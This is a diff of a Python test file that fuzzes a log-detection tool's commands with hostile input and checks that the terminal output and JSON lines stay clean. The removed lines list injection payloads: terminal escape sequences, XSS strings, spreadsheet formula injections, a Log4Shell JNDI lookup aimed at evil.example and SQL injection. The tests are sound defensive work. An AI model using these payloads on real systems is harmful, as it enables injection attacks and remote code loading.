@@ -1,144 +1,126 @@
-"""C, W, D: what people and programs are shown, and what Trailhawk stands on."""
+"""C1, C2 and D2: what people and programs are shown, and what Trailhawk stands on."""
 
 from __future__ import annotations
 
-import csv
-import io
 import json
 import re
 import subprocess
 import sys
-from typing import Any
+from collections.abc import Iterator
 
-from bars.harness import ANY_EVENT, Bar, Context, Outcome, delivery, event, run_command
+from bars.harness import Bar, Context, Outcome, run_command
+from bars.hostile_texts import World, hostile_world
 
-__all__ = ["SHOWING", "hostile_texts"]
-
-SEEDS = (
-    "\x1b[2J\x1b[H",
-    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
-    "\x1b]52;c;ZXZpbA==\x07",
-    "\x9b31m",
-    "\x90q\x9c",
-    "\r overwritten",
-    "\b\b\b",
-    "\x07",
-    "\x00",
-    "\u202eexe.txt",
-    "\u2066x\u2069",
-    "\u200b",
-    "\ufeff",
-    "\u2028",
-    "[link=https://evil.example]x[/link]",
-    "[/]",
-    "[bold red]",
-    "{0.__class__}",
-    "<script>window.__canary=1</script>",
-    '"><img src=x onerror=alert(1)>',
-    "</style><script>",
-    "javascript:1",
-    "=1+1",
-    "+1",
-    "-1",
-    "@SUM(A1)",
-    "\t=1",
-    "\n=1",
-    "\uff1d1+1",
-    '=HYPERLINK("http://evil.example")',
-    ";=1",
-    '{"kind":"finding"}',
-    '\n{"kind":"finding"}',
-    "${jndi:ldap://evil.example}",
-    "%s%n",
-    "'; DROP TABLE x; --",
-)
-
-
-def hostile_texts(context: Context, number: int) -> list[str]:
-    """Return texts made of the seeds, alone and joined."""
-    rng = context.rng
-    joined = ["".join(rng.choice(SEEDS) for _ in range(rng.randrange(1, 4))) for _ in range(number)]
-    return [*SEEDS, *joined][:number]
-
-
-def _hostile_logs(context: Context, number: int) -> list[str]:
-    texts = hostile_texts(context, number)
-    records: list[dict[str, Any]] = []
-    for at, text in enumerate(texts):
-        identity = {
-            "type": text,
-            "arn": f"arn:aws:iam::1:user/{text}",
-            "userName": text,
-            "accessKeyId": text,
-        }
-        names = ("userAgent", "sourceIPAddress", "awsRegion", "errorCode", "errorMessage")
-        more: dict[str, Any] = dict.fromkeys((*names, "eventSource", "recipientAccountId"), text)
-        more |= {"eventName": f"Describe{text}", "userIdentity": identity, "eventID": f"{at}{text}"}
-        more["requestParameters"] = {text: text, "name": text}
-        records.append(event(at, **more))
-    (context.folder / "h.json").write_bytes(delivery(records))
-    rule = ANY_EVENT.replace(
-        "title: any", f"title: {json.dumps(''.join(SEEDS[:8]), ensure_ascii=True)}"
-    )
-    (context.folder / "r.yml").write_text(rule)
-    return texts
-
+__all__ = ["SHOWING"]
 
 OURS = re.compile(rb"\x1b\[[0-9;]*m")
 CONTROL = re.compile(
     "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]"
 )
+EVIL = "\x1b[31mnone\u202e"
 
 
 def c1(context: Context) -> Outcome:
     """The terminal receives no control but line feeds and our own colours."""
-    texts = _hostile_logs(context, context.scale(500, 5_000))
-    logs, rules = str(context.folder / "h.json"), ["-r", str(context.folder / "r.yml")]
-    commands = [
-        ["scan", logs, *rules, "--all", "--color", "always"],
-        ["rules", "list", *rules],
-        ["rules", "show", "any", *rules],
-        ["scan", f"{context.folder}/\x1b[31mnone", *rules],
-    ]
-    found, crashed = 0, 0
-    for command in commands:
-        ran = run_command(*command)
-        text = OURS.sub(b"", ran.out + ran.err).decode("utf-8", "surrogateescape")
-        found += len(CONTROL.findall(text))
-        crashed += b"Traceback" in ran.err
+    world = hostile_world(context, context.scale(500, 5_000), store=True)
+    leaking: list[str] = []
+    crashed: list[str] = []
+    ran = 0
+    for command in _commands(world):
+        done = run_command(*command)
+        ran += 1
+        name = " ".join(command[:2])
+        text = OURS.sub(b"", done.out + done.err).decode("utf-8", "surrogateescape")
+        if found := CONTROL.findall(text):
+            leaking.append(f"{name}: {found[0]!r} and {len(found) - 1} more")
+        if b"Traceback" in done.err or done.code not in {0, 1, 2, 3}:
+            crashed.append(f"{name}: exit {done.code}")
     return Outcome(
-        not found and not crashed,
-        f"{len(texts)} texts x {len(commands)} commands, controls {found}, crashes {crashed}",
+        not leaking and not crashed,
+        f"{len(world.texts)} texts x {ran} commands, controls {leaking}, crashes {crashed}",
     )
+
+
+def _commands(world: World) -> Iterator[tuple[str, ...]]:
+    """Yield every command that tells of logs, rules or alerts, and some that go wrong."""
+    logs, store = str(world.logs), ("--store", str(world.store))
+    rules = ("-r", str(world.rules))
+    exceptions = ("--exceptions", str(world.exceptions))
+    yield "scan", logs, *rules, "--all", "--color", "always"
+    yield "scan", logs, *rules, "--alerts", "--all"
+    yield "scan", logs, *rules, *store
+    yield "scan", f"{world.folder}/{EVIL}", *rules
+    yield "scan", logs, "-r", f"{world.folder}/{EVIL}"
+    yield "rules", "list", *rules
+    yield "rules", "show", "any", *rules
+    yield "rules", "show", EVIL, *rules
+    yield "rules", "check", str(world.rules), "--all"
+    yield "rules", "test", str(world.rules)
+    yield "rules", "profile", logs, *rules, "--all"
+    yield "rules", "explain", "any", f"0{world.texts[0]}", "--logs", logs, *rules
+    yield "rules", "explain", "any", EVIL, "--logs", logs, *rules
+    yield "who", world.texts[1], logs
+    yield "who", "arn:aws:iam::1:user/", logs
+    yield "timeline", logs
+    yield "stats", "userAgent", "userIdentity.arn", "eventName", "in", logs
+    yield "search", logs, "--limit", "600"
+    yield "search", logs, "--keyword", EVIL
+    yield "search", logs, "--condition", EVIL
+    yield "query", "SELECT name, user_agent, event_id FROM logs", logs
+    yield "query", f"SELECT {EVIL}", logs
+    yield "alerts", "list", *store, "--all"
+    yield "alerts", "check", *store
+    for alert in _some_alerts(world):
+        yield "alerts", "show", alert, *store
+        yield "alerts", "ack", alert, "--note", EVIL, "--author", EVIL, *store
+        yield "alerts", "close", alert, "--verdict", "benign", "--note", EVIL, *store
+        yield "alerts", "show", alert, *store
+    yield "alerts", "show", EVIL, *store
+    yield "exceptions", "list", *exceptions
+    yield "exceptions", "try", logs, *rules, *exceptions
+    yield "catalog", "rule", "any", *rules, "--logs", logs
+    yield "catalog", "search", "any", *rules
+    yield "catalog", "search", EVIL, *rules
+    yield "catalog", "indicator", EVIL, *rules
+    yield "catalog", "event", f"iam {EVIL}", *rules
+    yield "catalog", "similar", "any", *rules
+    yield "catalog", "coverage", *rules
+    yield "catalog", "compare", *rules
+    yield EVIL, EVIL
+
+
+def _some_alerts(world: World) -> list[str]:
+    listed = run_command("alerts", "list", "--store", str(world.store), "--json", "--limit", "4")
+    found = [json.loads(line) for line in listed.out.splitlines()]
+    return [one["id"] for one in found if "id" in one][:4]
 
 
 def c2(context: Context) -> Outcome:
-    """One finding is one line, whatever it holds."""
-    texts = _hostile_logs(context, 100)
-    ran = run_command(
-        "scan", str(context.folder / "h.json"), "-r", str(context.folder / "r.yml"), "--json"
-    )
-    kinds = [json.loads(line)["kind"] for line in ran.out.decode().split("\n") if line]
-    count = kinds.count("finding")
-    return Outcome(count == len(texts), f"{len(texts)} events, {count} finding lines")
-
-
-START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
-
-
-def w4(context: Context) -> Outcome:
-    """No cell of a CSV file is a formula, and the texts come back."""
-    texts = _hostile_logs(context, context.scale(200, 5_000))
-    out = context.folder / "o.csv"
-    run_command(
-        "scan", str(context.folder / "h.json"), "-r", str(context.folder / "r.yml"), "-o", str(out)
-    )
-    rows = list(csv.reader(io.StringIO(out.read_text("utf-8"), newline="")))
-    formulas = sum(cell.startswith(START) for row in rows for cell in row)
+    """One thing is one line of machine output, whatever it holds."""
+    world = hostile_world(context, context.scale(100, 5_000), store=True)
+    logs, rules = str(world.logs), ("-r", str(world.rules))
+    wanted = len(world.texts)
+    counts: dict[str, int] = {}
+    scanned = _lines(run_command("scan", logs, *rules, "--json").out)
+    counts["scan"] = sum(line["kind"] == "finding" for line in scanned)
+    found = _lines(run_command("search", logs, "--json", "--limit", "99999").out)
+    counts["search"] = len(found)
+    timesketch = world.folder / "o.timesketch.jsonl"
+    run_command("scan", logs, *rules, "-o", str(timesketch))
+    counts["timesketch"] = len(_lines(timesketch.read_bytes()))
+    wrong = {name: count for name, count in counts.items() if count != wanted}
+    exported = run_command("alerts", "export", "--store", str(world.store)).out
+    alerts = {line["id"] for line in _lines(exported)}
+    doubled = exported.count(b"\n") - len(alerts)
     return Outcome(
-        formulas == 0 and len(rows) == len(texts) + 1,
-        f"{len(rows) - 1} rows, formula cells {formulas}",
+        not wrong and not doubled and len(alerts) > 0,
+        f"{wanted} events, lines of {', '.join(counts)} that are more or fewer {wrong}; "
+        f"{len(alerts)} alerts, lines beside them {doubled}",
     )
+
+
+def _lines(out: bytes) -> list[dict[str, object]]:
+    return [json.loads(line) for line in out.split(b"\n") if line]
 
 
 def d2(context: Context) -> Outcome:
@@ -156,4 +138,4 @@ def d2(context: Context) -> Outcome:
     )
 
 
-SHOWING: dict[str, Bar] = {"C1": c1, "C2": c2, "W4": w4, "D2": d2}
+SHOWING: dict[str, Bar] = {"C1": c1, "C2": c2, "D2": d2}
